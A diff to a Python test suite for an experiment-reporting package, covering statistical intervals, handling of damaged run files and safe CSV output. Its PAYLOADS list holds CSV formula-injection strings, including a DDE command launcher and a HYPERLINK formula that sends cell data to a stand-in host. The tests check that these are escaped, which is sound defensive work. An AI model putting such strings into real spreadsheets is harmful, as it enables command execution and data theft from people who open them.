@@ -1,17 +1,21 @@
 import csv
 import json
 import math
+import sys
 from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
 import pytest
+from omegaconf import OmegaConf
 from PIL import Image
 
+from mile import report as program
 from mile.comparison import better, gather, markdown, offline, over_tasks
 from mile.intervals import interquartile_mean, mean, middle, probability_of_improvement, standard_error
 from mile.report import report
-from mile.runs import Outcome, read_runs, write_table
+from mile.runs import Outcome, read_runs, write_csv, write_table
+from tests.test_configs import composed
 
 LINE = Outcome("drawer_open", "MILE", "", 0, "abc", "success", 0, True, 0.2, 100, 0, 0, 0.7, 1.0)
 
@@ -59,7 +63,36 @@ def test_tasks_are_resampled_one_by_one():
 
 def test_improvement_counts_pairs_and_halves_ties():
     assert probability_of_improvement(([1, 2, 3, 4], [0, 2, 5, 1])).value == (1 + 0.5 + 0 + 1) / 4
-    assert probability_of_improvement(([1, 1], [0, 0])) == (1, 1, 1)
+    assert probability_of_improvement(([1, 2], [0, 2]), ([3, 4], [5, 1])).value == (1 + 0.5 + 0 + 1) / 4
+
+
+@pytest.mark.parametrize(
+    ("wins", "losses", "low", "high"),
+    [(5, 0, 0.4782, 1), (0, 5, 0, 0.5218), (1, 0, 0.025, 1), (0, 1, 0, 0.975), (8, 2, 0.4439, 0.9748)],
+)
+def test_an_interval_of_pairs_is_that_of_published_tables(wins, losses, low, high):
+    """Two-sided 95 % limits of a binomial share, as in Geigy's or Fisher and Yates' tables."""
+    found = probability_of_improvement(([1] * wins + [0] * losses, [0] * wins + [1] * losses))
+    assert (found.low, found.high) == pytest.approx((low, high), abs=5e-5)
+
+
+@pytest.mark.parametrize("pairs", [1, 2, 5])
+def test_an_interval_of_pairs_covers_what_it_says_ties_or_not(pairs):
+    """All outcomes of pairs that are won, tied or lost, each weighted by its probability."""
+    numbers = range(pairs + 1)
+    counts = [(wins, ties, pairs - wins - ties) for wins in numbers for ties in numbers if wins + ties <= pairs]
+    intervals = {}
+    for wins, ties, losses in counts:
+        ours = [2] * wins + [1] * ties + [0] * losses
+        intervals[wins, ties, losses] = probability_of_improvement((ours, [1] * pairs))
+    for tie in (0.0, 0.2, 0.6):
+        for win in (1 - tie) * np.linspace(0, 1, 21):
+            covered = 0.0
+            for (wins, ties, losses), found in intervals.items():
+                ways = math.factorial(pairs) / (math.factorial(wins) * math.factorial(ties) * math.factorial(losses))
+                if found.low <= win + tie / 2 <= found.high:
+                    covered += ways * win**wins * tie**ties * (1 - win - tie) ** losses
+            assert covered >= 0.95 - 1e-9
 
 
 def test_one_seed_has_no_interval():
@@ -76,13 +109,12 @@ def test_the_better_variant_is_chosen_and_what_is_missing_is_said():
     chosen = better(lucky, "drawer_open", "MILE")
     assert chosen is not None
     assert chosen.variant == ""  # a variant is not better by the seeds that it lacks
-    text = markdown(series, SERIES, ["somewhere"])
+    text = markdown(series, SERIES)
     assert "| HG-DAgger | 2, missing 7 |" in text
     assert "Missing: BC intervention, RLIF." in text
     assert "| Somebody's | 3 |" in text
     (dagger,) = (line for line in text.splitlines() if line.startswith("| HG-DAgger | 2"))
     assert "| 10 | 0.2 |" in dagger  # ten steps with ν=1 for 40 points more
-    assert "Not finished: `somewhere`" in text
     assert "| MILE | 3 | 90 % ± 6 % |" in text
     (changed,) = (line for line in text.splitlines() if line.startswith("| MILE (frozen mental model, same data)"))
     assert "| 0.83 [" in changed  # plain MILE is better twice in three and ties once
@@ -120,15 +152,31 @@ def test_a_report_has_all_figures_and_reads_its_own_table(tmp_path):
             assert len(np.unique(np.asarray(Image.open(path)).reshape(-1, 4), axis=0)) > 10
 
 
-def test_runs_of_one_name_and_different_settings_are_not_averaged(tmp_path):
-    write_table(tmp_path / "runs.csv", [*outcomes({5: 0.9}), *outcomes({6: 0.8}, settings="xyz")])
-    with pytest.raises(ValueError, match="drawer_open by MILE with different settings"):
-        read_runs([tmp_path / "runs.csv"])
+def test_of_different_settings_those_of_most_seeds_are_reported(tmp_path):
+    odd = outcomes({5: 0.1}, settings="xyz")
+    others = [*outcomes({6: 0.9, 7: 0.8}), *outcomes({5: 0.3}, settings="xyz", method="IWR")]
+    write_table(tmp_path / "runs.csv", [*odd, *others])
+    kept, (line,) = read_runs([tmp_path / "runs.csv"])
+    assert kept == others
+    assert "runs.csv' (seed 5) has other settings than most runs of drawer_open by MILE" in line
+    assert "variant=… (now '')" in line
+
+
+def test_of_settings_of_as_many_seeds_the_tables_or_the_first_are_reported(tmp_path):
+    write_table(tmp_path / "first.csv", [*outcomes({5: 0.9}), *outcomes({6: 0.8}, settings="xyz")])
+    kept, _ = read_runs([tmp_path / "first.csv"])
+    assert {outcome.seed for outcome in kept} == {5}
+    finished_run(tmp_path / "mine", 7)
+    write_table(tmp_path / "table.csv", outcomes({5: 0.9}, method="IWR"))
+    kept, (line,) = read_runs([tmp_path / "mine", tmp_path / "table.csv"])
+    assert {outcome.seed for outcome in kept} == {5}
+    assert "mine' (seed 7) has other settings" in line
 
 
 def finished_run(folder, seed, **settings):
-    """A run's folder as far as a report reads it."""
+    """A run's folder as far as a report reads it; "callbacks" adds to those that each run has."""
     folder.mkdir()
+    more = settings.pop("callbacks", {})
     config = {
         "name": "drawer_open",
         "seed": seed,
@@ -137,7 +185,7 @@ def finished_run(folder, seed, **settings):
         "data": {"from": None, "restart": False},
         "method": {"_target_": "mile.methods.IWR"},
         "env": {"name": "drawer_open"},
-        "callbacks": {"deployment": {"epochs_per_round": 2}, "evaluation": {"every_n_epochs": 2}},
+        "callbacks": {"deployment": {"epochs_per_round": 2}, "evaluation": {"every_n_epochs": 2}, **more},
         **dict.fromkeys(("collector", "logger", "trainer")),
         **settings,
     }
@@ -146,7 +194,7 @@ def finished_run(folder, seed, **settings):
     for name, content in {
         "config.yaml": config,
         "results.json": dict.fromkeys(rows, row),
-        "evaluation.json": {"0": row},
+        "evaluation.json": {"2": row},
         "deployment.json": {"0": {"steps": 9, "interventions": 3}},
         "policy.json": {"rated_by": "success"},
     }.items():
@@ -156,16 +204,159 @@ def finished_run(folder, seed, **settings):
 def test_a_setting_that_is_not_set_makes_no_difference_and_one_that_is_does(tmp_path):
     finished_run(tmp_path / "earlier", 5)
     finished_run(tmp_path / "later", 6, start=None)
-    outcomes, _ = read_runs([tmp_path])
+    outcomes, left_out = read_runs([tmp_path])
     assert {it.seed: it.interventions for it in outcomes if it.round} == {5: 3, 6: 3}
+    assert not left_out
     finished_run(tmp_path / "other", 7, start={"steps": 3000})
-    with pytest.raises(ValueError, match="by IWR with different settings"):
-        read_runs([tmp_path])
+    outcomes, (line,) = read_runs([tmp_path])
+    assert {it.seed for it in outcomes} == {5, 6}
+    assert f"'{tmp_path / 'other'}' (seed 7) has other settings than most runs of drawer_open by IWR" in line
+
+
+def test_a_video_changes_nothing_in_a_run(tmp_path):
+    finished_run(tmp_path / "seen", 5, callbacks={"video": {"seed": 4}})
+    finished_run(tmp_path / "unseen", 6)
+    outcomes, left_out = read_runs([tmp_path])
+    assert {it.seed for it in outcomes} == {5, 6}
+    assert not left_out
+
+
+def test_shipped_runs_with_and_without_video_have_the_same_settings(tmp_path):
+    for seed, choice in ((5, "callbacks=default"), (6, "callbacks=video")):
+        finished_run(tmp_path / str(seed), seed)
+        cfg = composed("train", "experiment=drawer_open", choice, f"seed={seed}", "output_dir=anywhere", "command=any")
+        OmegaConf.save(cfg, tmp_path / str(seed) / "config.yaml")
+    outcomes, left_out = read_runs([tmp_path])
+    assert len({it.settings for it in outcomes}) == 1
+    assert not left_out
+
+
+def test_a_config_keeps_the_digest_by_which_earlier_tables_know_it(tmp_path):
+    finished_run(tmp_path / "run", 5)
+    outcomes, _ = read_runs([tmp_path])
+    assert {it.settings for it in outcomes} == {"3c71d4d8e20a"}  # as of version 0.1.0
+
+
+DAMAGE = {
+    "results.json torn in two": ("results.json", '{"learnt policy": {"succ', "results.json' is damaged"),
+    "results.json without a policy": ("results.json", "{}", "KeyError: 'initial policy'"),
+    "scores that are words": ("results.json", '{"initial policy": {"success_rate": "=1", "episodes": 1}}', "float"),
+    "a list of evaluations": ("evaluation.json", "[]", "AttributeError"),
+    "evaluations beyond the deployments": (
+        "evaluation.json",
+        '{"99": {"success_rate": 1, "episodes": 1}}',
+        "IndexError",
+    ),
+    "evaluations by an earlier version": ("evaluation.json", '{"0": {}}', "of an earlier version"),
+    "a metric that nobody knows": ("policy.json", '{"rated_by": "beauty"}', "KeyError: 'beauty'"),
+    "another project's config": ("config.yaml", "epochs: 3\nmodel: large\n", "Missing key"),
+    "a config that is no YAML": ("config.yaml", "a: [1,\n b: }", "ParserError"),
+    "a config in bytes": ("config.yaml", "\x00", "ReaderError"),
+    "a config without a round's length": ("config.yaml", '{"callbacks": {}}', "Missing key"),
+    "no deployments": ("deployment.json", None, "FileNotFoundError"),
+}
+
+
+@pytest.mark.parametrize("case", DAMAGE)
+def test_a_run_that_cannot_be_read_is_named_and_holds_up_itself_alone(tmp_path, case):
+    name, content, words = DAMAGE[case]
+    finished_run(tmp_path / "sound", 5)
+    finished_run(tmp_path / "odd", 6)
+    (tmp_path / "odd" / name).unlink()
+    if content is not None:
+        (tmp_path / "odd" / name).write_text(content)
+    outcomes, (line,) = read_runs([tmp_path])
+    assert {outcome.seed for outcome in outcomes} == {5}
+    assert line.startswith(f"'{tmp_path / 'odd'}' cannot be read: ")
+    assert words in line
+    assert "\n" not in line
+
+
+def test_what_is_left_out_is_said_by_the_program_and_in_the_report(tmp_path, monkeypatch, capsys):
+    finished_run(tmp_path / "sound", 5)
+    finished_run(tmp_path / "stopped", 6)
+    (tmp_path / "stopped" / "results.json").unlink()
+    finished_run(tmp_path / "torn", 7)
+    (tmp_path / "torn" / "evaluation.json").write_text('{"2": ')
+    monkeypatch.setattr(sys, "argv", ["mile-report", str(tmp_path)])
+    program.main()
+    lines = capsys.readouterr().err.splitlines()
+    assert [line.split("'")[1] for line in lines] == [str(tmp_path / "stopped"), str(tmp_path / "torn")]
+    assert all(line.startswith("left out: ") for line in lines)
+    text = (tmp_path / "report" / "report.md").read_text(encoding="utf-8")
+    _, listed = text.split("## Left out\n\n")
+    assert listed.splitlines() == [line.replace("left out: ", "* ") for line in lines]
+
+
+def test_a_report_says_how_its_intervals_are_made(tmp_path):
+    write_table(tmp_path / "runs.csv", SERIES)
+    report([tmp_path / "runs.csv"], tmp_path)
+    text = (tmp_path / "report.md").read_text(encoding="utf-8")
+    assert "Clopper and Pearson" in text
+    assert "five pairs of five give [0.48, 1]" in " ".join(text.lower().split())
+    assert "Left out" not in text
+
+
+@pytest.mark.parametrize("name", ["report.md", "runs.csv", "fig3.png", "fig3.svg"])
+def test_a_report_that_is_interrupted_leaves_the_earlier_one_whole(tmp_path, monkeypatch, name):
+    """The process ends just before the new file takes the old one's place."""
+    write_table(tmp_path / "table.csv", outcomes({5: 0.9}))
+    report([tmp_path / "table.csv"], tmp_path)
+    before = (tmp_path / name).read_bytes()
+    replace_file = Path.replace
+
+    def fail(path, target):
+        if Path(target).name == name:
+            raise KeyboardInterrupt
+        return replace_file(path, target)
+
+    monkeypatch.setattr(Path, "replace", fail)
+    write_table(tmp_path / "other.csv", outcomes({5: 0.3}))
+    with pytest.raises(KeyboardInterrupt):
+        report([tmp_path / "other.csv"], tmp_path)
+    assert (tmp_path / name).read_bytes() == before
+
+
+PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    '=HYPERLINK("http://example.com?"&A1, "look")',
+    "＝1+1",
+    "'=1+1",
+    "''=1+1",
+    "-",
+]
+HARMLESS = ["plain", "", "'tis", "1+1", " =1+1", "a, b", 'say "yes"', "two\r\nlines", "ν Ü"]
+
+
+def test_no_formula_starts_in_a_table_and_text_comes_back_as_it_was(tmp_path):
+    """Python's csv module is the spreadsheet."""
+    texts = [*PAYLOADS, *HARMLESS]
+    runs = [replace(LINE, variant=text, round=number) for text in texts for number in (0, 1)]
+    write_table(tmp_path / "runs.csv", runs)
+    with (tmp_path / "runs.csv").open(newline="", encoding="utf-8") as file:
+        cells = [row["variant"] for row in csv.DictReader(file)][::2]
+    assert cells == [*(f"'{text}" for text in PAYLOADS), *HARMLESS]
+    kept, left_out = read_runs([tmp_path / "runs.csv"])
+    assert kept == runs
+    assert not left_out
+
+
+def test_numbers_stay_numbers_in_a_table(tmp_path):
+    write_csv(tmp_path / "table.csv", ["cell"], [{"cell": -1}, {"cell": -0.5}, {"cell": "-1"}, {"cell": "\ud83d"}])
+    assert (tmp_path / "table.csv").read_bytes() == b"cell\r\n-1\r\n-0.5\r\n'-1\r\n?\r\n"
 
 
 def test_a_folder_without_runs_and_a_foreign_table_are_refused(tmp_path):
-    with pytest.raises(ValueError, match="no finished run in"):
+    with pytest.raises(ValueError, match=r"no finished run in .*; a run's folder holds results.json"):
         read_runs([tmp_path])
+    with pytest.raises(ValueError, match=r"nowhere' is no folder and no \.csv"):
+        read_runs([tmp_path / "nowhere"])
     (tmp_path / "other.csv").write_text("a,b\n1,2\n")
     with pytest.raises(ValueError, match="is no table of runs"):
         read_runs([tmp_path / "other.csv"])
@@ -183,3 +374,19 @@ def test_a_part_of_a_table_is_refused(tmp_path, first, lacking):
         table.writerows(row for row in rows if row["final"] == "False" or (row["round"] == "0") != first)
     with pytest.raises(ValueError, match=f"is a part of a table: .* has no line for {lacking}"):
         read_runs([tmp_path / "part.csv"])
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"\xff\xfe", b"", b'"', b"experiment,score\na\n", b"\x00\x01", b'"' + b"a" * 200_000],
+    ids=["bytes", "nothing", "a quote", "columns lacking", "zeros", "a cell too large"],
+)
+def test_a_damaged_table_is_refused_in_one_line(tmp_path, monkeypatch, capsys, content):
+    (tmp_path / "runs.csv").write_bytes(content)
+    monkeypatch.setattr(sys, "argv", ["mile-report", str(tmp_path / "runs.csv")])
+    with pytest.raises(SystemExit) as stopped:
+        program.main()
+    assert str(stopped.value.code).startswith("error: ")
+    assert str(tmp_path / "runs.csv") in str(stopped.value.code)
+    assert "\n" not in str(stopped.value.code)
+    assert len(str(stopped.value.code)) < 400
